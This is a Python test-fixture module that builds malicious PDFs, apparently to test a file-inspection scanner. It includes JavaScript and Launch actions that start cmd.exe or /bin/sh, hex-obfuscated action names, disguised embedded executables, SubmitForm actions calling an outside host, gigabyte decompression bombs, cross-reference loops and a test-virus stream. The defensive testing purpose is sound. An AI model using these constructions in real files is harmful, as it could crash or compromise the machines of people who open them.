"""Hostile PDF files, written by pikepdf or by hand; each takes a `random.Random` for its variations."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from submissions.inspection.kinds import TEST_VIRUS

ADDRESS = "http://elsewhere.example/x"


def pdf(dress=None, pages=1, **save):
    """A PDF of empty pages; `dress(pdf)` puts something into it."""
    made, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        made.add_blank_page()
    if dress:
        dress(made)
    made.save(out, **save)
    return out.getvalue()


def written(*objects, root=1, trailer=""):
    """A PDF by hand: objects numbered from 1, with a table of places."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Root {root} 0 R /Size {len(objects) + 1} {trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
CATALOG, PAGES = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def action(kind, **more):
    return Dictionary(S=Name("/" + kind), **more)


def javascript(rng):
    code = String(f"app.alert({rng.random()})")

    def opening(made):
        made.Root.OpenAction = action("JavaScript", JS=code)

    def hidden_far_away(made):
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action("JavaScript", JS=code)])))

    def on_a_page(made):
        link = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9]))
        link.A = made.make_indirect(action("JavaScript", JS=made.make_stream(b"app.alert(1)")))
        made.pages[0].Annots = Array([link])

    place = rng.choice([opening, hidden_far_away, on_a_page])
    if rng.random() < 0.5:
        return pdf(place, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return pdf(place, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(b"/JavaScript", b"/J#61vaScri#70t")


def launch(rng):
    def dress(made):
        program = rng.choice(["cmd.exe", "/bin/sh", "\\\\elsewhere\\x.exe"])
        made.Root.OpenAction = action("Launch", F=String(program))

    return pdf(dress)


def acts(rng):
    acting = rng.choice([action("URI", URI=String(ADDRESS)), action("SubmitForm", F=String(ADDRESS))])

    def on_opening(made):
        made.Root.OpenAction = acting

    def on_page(made):
        made.pages[0].AA = Dictionary(O=acting)

    def afterwards(made):
        made.Root.OpenAction = action("GoTo", D=Array([made.pages[0].obj, Name.Fit]), Next=acting)

    return pdf(rng.choice([on_opening, on_page, afterwards]))


def embedded(rng):
    program = b"MZ" + rng.randbytes(200)

    def attached(made):
        made.attachments[rng.choice(["setup.exe", "invoice.pdf"])] = program

    def annotated(made):
        file = Dictionary(Type=Name.Filespec, F=String("x"), EF=Dictionary(F=made.make_stream(program)))
        made.pages[0].Annots = Array([Dictionary(Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=file)])

    return pdf(rng.choice([attached, annotated]))


def media(rng):
    kind = rng.choice(["RichMedia", "Movie", "Sound", "Screen", "3D"])
    return pdf(
        lambda made: setattr(made.pages[0], "Annots", Array([Dictionary(Subtype=Name("/" + kind), Rect=[0, 0, 9, 9])]))
    )


def xfa(rng):
    return pdf(
        lambda made: setattr(made.Root, "AcroForm", Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp:xdp/>")))
    )


def locked(rng):
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=rng.choice(["", "user"]), R=rng.choice([4, 6])))


def xref_loop(rng):
    """The table of places names itself, or another that names it, as the one before it."""
    made = written(CATALOG, PAGES, PAGE)
    start = int(made.rsplit(b"startxref\n")[1].split()[0])
    if rng.random() < 0.5:
        return made.replace(b" >>\nstartxref", f" /Prev {start} >>\nstartxref".encode()).replace(
            b"/Size 4 >>", b"/Size 4>>"
        )
    return written(CATALOG, PAGES, PAGE, trailer=f"/Prev {start} ")


def page_tree_loop(rng):
    kids = rng.choice([b"[2 0 R]", b"[3 0 R 2 0 R]", b"[4 0 R]"])
    around = b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"
    return written(CATALOG, b"<< /Type /Pages /Kids " + kids + b" /Count 3 >>", PAGE, around)


def stream_object(data, words):
    return b"<< /Length %d %s >>\nstream\n" % (len(data), words) + data + b"\nendstream"


def object_stream_bomb(rng):
    """An object stream that unpacks to a gigabyte; the table of places sends every reader into it."""
    packer = zlib.compressobj(9)
    bomb = packer.compress(b"7 0 " + b" " * 1000)
    bomb += b"".join(packer.compress(b" " * 10_000_000) for _ in range(rng.randint(90, 120))) + packer.flush()
    objects = [CATALOG, PAGES, PAGE, stream_object(bomb, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    rows = b"\0\0\0\0\0" + b"".join(b"\1" + place.to_bytes(3, "big") + b"\0" for place in places[:2])
    rows += b"\2\0\0\4\0" + b"\1" + places[3].to_bytes(3, "big") + b"\0" + b"\1" + len(out).to_bytes(3, "big") + b"\0"
    start = len(out)
    words = b"/Type /XRef /W [1 3 1] /Size 6 /Root 1 0 R"
    out += b"5 0 obj\n" + stream_object(rows, words) + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def content_bomb(rng):
    """A page's content that unpacks to a gigabyte, or is packed twice and thrice."""
    level = rng.randint(1, 3)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(10_000_000)) for _ in range(100 if level == 1 else 30)) + packer.flush()
    for _ in range(level - 1):
        data = zlib.compress(data, 9)
    words = b"/Filter [" + b"/FlateDecode " * level + b"]"
    page = PAGE.replace(b" >>", b" /Contents 4 0 R >>")
    return written(CATALOG, PAGES, page, stream_object(data, words))


def virus_in_a_stream(rng):
    packed = zlib.compress(b"\n" * rng.randint(1, 99) + TEST_VIRUS)
    return written(CATALOG, PAGES, PAGE, stream_object(packed, b"/Filter /FlateDecode"))


def outside_stream(rng):
    return written(CATALOG, PAGES, PAGE, stream_object(b"", b"/F (\\\\\\\\elsewhere\\\\x)"))
